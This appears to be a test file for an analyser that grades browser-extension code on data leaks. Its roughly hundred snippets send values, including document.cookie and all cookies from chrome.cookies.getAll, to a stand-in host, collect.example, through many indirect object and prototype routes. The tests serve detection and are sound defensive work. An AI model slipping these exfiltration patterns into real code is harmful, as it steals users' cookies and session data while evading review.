import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What is put into an object is found by the functions that it has, in their `this`, whatever way they came to be there and by
 * whatever name the object is called. `V` is data, `send` sends what it is given.
 */

const SEND = "const send = (body) => fetch('https://collect.example/', { method: 'POST', body });";

const PROGRAMS = [
  'function give() { return this.a; } const o = Object.assign({}, { give }); o.a = V; send(o.give());',
  'function give() { return this.a; } const o = {}; Object.assign(o, { give, a: V }); send(o.give());',
  'const mix = { give() { return this.a; } }; const o = {}; Object.assign(o, mix); o.a = V; send(o.give());',
  'const mix = { give() { return this.a; } }; const o = { ...mix, a: 1 }; o.a = V; send(o.give());',
  'const proto = { give() { return this.a; } }; const o = Object.create(proto); o.a = V; send(o.give());',
  'const o = Object.create({ give() { return this.a; } }); o.a = V; send(o.give());',
  'const proto = { give() { return this.a; }, set(x) { this.a = x; } }; const o = Object.create(proto); o.set(V); send(o.give());',
  'const proto = { give() { return this.a; } }; const o = { a: V }; Object.setPrototypeOf(o, proto); send(o.give());',
  'const proto = { give() { return this.a; } }; const o = { a: V, __proto__: proto }; send(o.give());',
  'class A {} const o = new A(); o.give = function () { return this.a; }; o.a = V; send(o.give());',
  'class A {} A.prototype.give = function () { return this.a; }; const o = new A(); o.a = V; send(o.give());',
  'class A {} Object.assign(A.prototype, { give() { return this.a; } }); const o = new A(); o.a = V; send(o.give());',
  'class A { constructor(x) { this.a = x; } } Object.assign(A.prototype, { give() { return this.a; } }); send(new A(V).give());',
  'function A(x) { this.a = x; } Object.assign(A.prototype, { give() { return this.a; } }); send(new A(V).give());',
  "function give() { return this.a; } const t = new Map(); t.set('k', { give }); t.get('k').a = V; send(t.get('k').give());",
  "const t = new Map(); t.set('k', { give() { return this.a; } }); t.get('k').a = V; send(t.get('k').give());",
  'const t = [{ give() { return this.a; } }]; t[0].a = V; send(t[0].give());',
  'const t = [{ give() { return this.a; } }]; for (const one of t) one.a = V; for (const one of t) send(one.give());',
  'function make() { return { a: 1, give }; } function give() { return this.a; } const o = make(); o.a = V; send(o.give());',
  'function make(x) { return { a: x, give }; } function give() { return this.a; } send(make(V).give());',
  'function give() { return this.a; } function fill(o) { o.a = V; } const o = { give }; fill(o); send(o.give());',
  'function give() { return this.a; } function set(x) { this.a = x; } const o = { give, set }; o.set(V); send(o.give());',
  'function init(x) { this.a = x; } function run() { send(this.a); } const app = { init, run }; app.init(V); app.run();',
  'function give() { return this.a; } const o = { a: V }; const g = give.bind(o); send(g());',
  'function give() { return this.a; } const o = { a: 1 }; o.a = V; send(give.call(o));',
  'function give() { return this.a; } const o = {}; o.a = V; send(give.apply(o, []));',
  'function give() { return this.a; } const o = {}; const g = give.bind(o); o.a = V; send(g());',
  'const x = { give() { return this.a; } }; const o = { a: V, give: x.give }; send(o.give());',
  'const x = { give() { return this.a; } }; const o = { give: x.give }; o.a = V; send(o.give());',
  'const x = { give() { return this.a; } }; const o = {}; for (const k of Object.keys(x)) o[k] = x[k]; o.a = V; send(o.give());',
  'class X { give() { return this.a; } } const o = { a: V, give: X.prototype.give }; send(o.give());',
  'function f() {} f.give = function () { return this.a; }; f.a = V; send(f.give());',
  'class K { static give() { return this.a; } } K.a = V; send(K.give());',
  'function g() { return this.a; } const o = { get give() { return g.call(this); } }; o.a = V; send(o.give);',
  "const o = {}; Object.defineProperty(o, 'give', { value() { return this.a; } }); o.a = V; send(o.give());",
  'function give() { return this.in.a; } const o = { give, in: {} }; o.in.a = V; send(o.give());',
  'const o = { in: {}, give() { return this.in.a; } }; o.in.a = V; send(o.give());',
  'function give() { return this.a; } function pass() { return this.give(); } const o = { give, pass }; o.a = V; send(o.pass());',
  "const o = { handleEvent() { send(this.a); } }; o.a = V; document.addEventListener('click', o);",
  "class O { give() { return this.a; } } const t = new Map(); t.set('k', new O()); t.get('k').a = V; send(t.get('k').give());",
  'class O { give() { return this.a; } } const t = [new O()]; for (const x of t) x.a = V; t.forEach((x) => send(x.give()));',
  'class O { give() { return this.a; } } const make = () => new O(); const x = make(); x.a = V; send(x.give());',
  'class O { give() { return this.a; } } const app = { o: new O() }; app.o.a = V; send(app.o.give());',
  'const app = { o: { give() { return this.a; } } }; app.o.a = V; send(app.o.give());',
  'class O { give() { return this.a; } } class P { constructor() { this.o = new O(); } fill(x) { this.o.a = x; } out() { send(this.o.give()); } } const p = new P(); p.fill(V); p.out();',
  'class P { constructor() { this.o = { give() { return this.a; } }; } fill(x) { this.o.a = x; } out() { send(this.o.give()); } } const p = new P(); p.fill(V); p.out();',
  'function make() { const o = { give() { return this.a; } }; return { fill(x) { o.a = x; }, out() { send(o.give()); } }; } const p = make(); p.fill(V); p.out();',
  'function give() { return this.a; } function make() { const o = { give }; return { fill(x) { o.a = x; }, out() { send(o.give()); } }; } const p = make(); p.fill(V); p.out();',
  'function set(x) { this.a = x; return this; } function give() { return this.a; } send({ set, give }.set(V).give());',
  'const app = (function () { function set(x) { this.a = x; } function give() { return this.a; } return { set, give }; })(); app.set(V); send(app.give());',
  'const app = {}; (function (ns) { ns.set = set; ns.give = give; function set(x) { this.a = x; } function give() { return this.a; } })(app); app.set(V); send(app.give());',
  'window.app = { set, give }; function set(x) { this.a = x; } function give() { return this.a; } app.set(V); send(app.give());',
  'function A() {} A.prototype = { set, give }; function set(x) { this.a = x; } function give() { return this.a; } const a = new A(); a.set(V); send(a.give());',
  'function A() {} A.prototype.set = set; A.prototype.give = give; function set(x) { this.a = x; } function give() { return this.a; } const a = new A(); a.set(V); send(a.give());',
  'class A {} A.prototype.set = set; A.prototype.give = give; function set(x) { this.a = x; } function give() { return this.a; } const a = new A(); a.set(V); send(a.give());',
  'const Mix = (B) => class extends B { set(x) { this.a = x; } give() { return this.a; } }; class A extends Mix(Object) {} const a = new A(); a.set(V); send(a.give());',
  'class A { give = give; set = set; } function set(x) { this.a = x; } function give() { return this.a; } const a = new A(); a.set(V); send(a.give());',
  'class A { constructor() { this.give = give; this.set = set; } } function set(x) { this.a = x; } function give() { return this.a; } const a = new A(); a.set(V); send(a.give());',
  'class A { constructor() { this.give = give.bind(this); this.set = set.bind(this); } } function set(x) { this.a = x; } function give() { return this.a; } const a = new A(); a.set(V); const g = a.give; send(g());',
  'function f() {} f.set = function (x) { this.a = x; }; f.give = function () { return this.a; }; f.set(V); send(f.give());',
  'function f() {} f.set = set; f.give = give; function set(x) { this.a = x; } function give() { return this.a; } f.set(V); send(f.give());',
  'class K {} K.set = set; K.give = give; function set(x) { this.a = x; } function give() { return this.a; } K.set(V); send(K.give());',
  'const o = { get v() { return this.a; }, set v(x) { this.a = x; } }; o.v = V; send(o.v);',
  'function give() { return this.a; } const o = Object.freeze({ a: V, give }); send(o.give());',
  "const o = Object.seal({ a: '', give() { return this.a; } }); o.a = V; send(o.give());",
  'function give() { return this.a; } const o = self.x ? { give } : { give, b: 1 }; o.a = V; send(o.give());',
  'const t = { list: [], add(x) { this.list.push(x); }, out() { return this.list; } }; t.list.push(V); send(t.out()[0]);',
  'function out() { return this.list; } const t = { list: [], out }; t.list.push(V); send(t.out()[0]);',
  "function out() { return this.m.get('k'); } const t = { m: new Map(), out }; t.m.set('k', V); send(t.out());",
  "function out() { return this.m.get('k'); } function put(k, x) { this.m.set(k, x); } const t = { m: new Map(), out, put }; t.put('k', V); send(t.out());",
  'function out() { return this.l; } function put(x) { this.l.push(x); } const t = { l: [], out, put }; t.put(V); send(t.out());',
  'const o = {}; o.give = function () { return this.a; }; o.a = V; send(o.give());',
  'const o = {}; o.give = function () { return this.a; }; function f(x) { x.a = V; } f(o); send(o.give());',
  'const o = {}; o.give = function () { return this.a; }; const t = [o]; t[0].a = V; send(t[0].give());',
  "const app = { o: {} }; Object.defineProperty(app.o, 'a', { value: V }); send(app.o.a);",
  'const app = { o: {} }; Object.defineProperties(app.o, { a: { value: V } }); send(app.o.a);',
  'class O { set v(x) { this.a = x; } } const l = [new O()]; l[0].v = V; send(l[0].a);',
  "class O { set v(x) { this.a = x; } } const m = new Map(); m.set('k', new O()); m.get('k').v = V; send(m.get('k').a);",
  "const d = { get() { return V; } }; const o = {}; Object.defineProperty(o, 'a', d); send(o.a);",
  "const k = 'a'; const o = {}; Object.defineProperty(o, k, { value: V }); send(o.a);",
  'class O { give() { return this.a; } } O.prototype.a = V; send(new O().give());',
  'class P { give() { return this.a; } } class O extends P {} P.prototype.a = V; send(new O().give());',
  'function O() {} O.prototype.a = V; send(new O().a);',
  'class O {} O.prototype.a = V; const o = new O(); send(o.a);',
  'function O() {} O.prototype = { a: V }; send(new O().a);',
  'function O() {} Object.assign(O.prototype, { a: V }); send(new O().a);',
  'const base = { a: V }; const o = { __proto__: base }; send(o.a);',
  'const base = { a: V }; const o = {}; Object.setPrototypeOf(o, base); send(o.a);',
  'const base = {}; const o = {}; Object.setPrototypeOf(o, base); base.a = V; send(o.a);',
  "class O {} Object.defineProperty(O.prototype, 'a', { value: V }); send(new O().a);",
  "const o = { a: '', give() { return this.a; } }; const src = { a: V }; Object.assign(o, src); send(o.give());",
  "const l = [{ a: '', give() { return this.a; } }]; const src = { a: V }; Object.assign(l[0], src); send(l[0].give());",
  "const m = new Map(); m.set('k', { a: '', give() { return this.a; } }); const make = () => ({ a: V }); Object.assign(m.get('k'), make()); send(m.get('k').give());",
  'class O { give() { return this.a; } } const app = { o: new O() }; const src = { a: V }; Object.assign(app.o, src); send(app.o.give());',
  'class O { give() { return this.a; } } const o = new O(); Object.assign(o, JSON.parse(JSON.stringify({ a: V }))); send(o.give());',
  "const o = { a: '', give() { return this.a; } }; const get = () => o; const src = { a: V }; jQuery.extend(get(), src); send(get().give());",
  "const h = { handleEvent(e) { send(e.detail); } }; addEventListener('x', h); dispatchEvent(new CustomEvent('x', { detail: V }));",
  "class H { constructor() { addEventListener('x', this); } handleEvent(e) { send(e.detail); } } new H(); dispatchEvent(new CustomEvent('x', { detail: V }));",
  'class O { static { this.a = V; } } send(O.a);',
  'class O { static #a; static { this.#a = V; } static give() { return this.#a; } } send(O.give());',
  'class O { constructor(x) { send(x); } } const l = [O]; new l[0](V);',
  "class O { constructor(x) { this.a = x; } } class P {} const t = { o: O, p: P }; const k = 'o' + self.x; send(new t[k](V).a);",
  'class O { constructor(o) { Object.assign(this, o); } give() { return this.a; } } const o = JSON.parse(V); send(new O(o).give());',
];

describe('data in an object', () => {
  it.each(PROGRAMS)('%s', async (program) => {
    expect(await graded({ content: `${SEND} ${program.replace('V', 'document.cookie')}` })).toBe('F');
    expect(await graded({ content: `${SEND} ${program.replace('V', "'none'")}` })).toMatch(/^A/);
  });

  it.each([
    ["import { give } from './lent.js'; const o = { give };", 'export function give() { return this.a; }'],
    ["import * as all from './lent.js'; const o = { ...all };", 'export function give() { return this.a; }'],
    [
      "import * as all from './lent.js'; const o = Object.assign({}, all);",
      'export function give() { return this.a; }',
    ],
    ["import { o } from './lent.js';", "export const o = { a: '', give() { return this.a; } };"],
    ["import { o } from './lent.js';", 'function give() { return this.a; } export const o = { give };'],
  ])('of another script: %s %s', async (imports, lent) => {
    const program = (data: string): Promise<string> =>
      graded({
        background: `${imports} ${SEND} chrome.cookies.getAll({}, (all) => { o.a = ${data}; send(o.give()); });`,
        manifest: { background: { service_worker: 'background.js', type: 'module' } },
        files: { 'lent.js': lent },
      });
    expect(await program('JSON.stringify(all)')).toBe('F');
    expect(await program("'none'")).toMatch(/^A/);
  });

  it('is not in another object that has the same function, where it goes out by itself', async () => {
    const program = (sent: string): string =>
      `${SEND} function out() { send(this.a); } const one = { out }, other = { out, a: '' }; other.b = document.cookie; ${sent}`;
    expect(await graded({ content: program('one.out(); other.out();') })).toMatch(/^A/);
  });
});
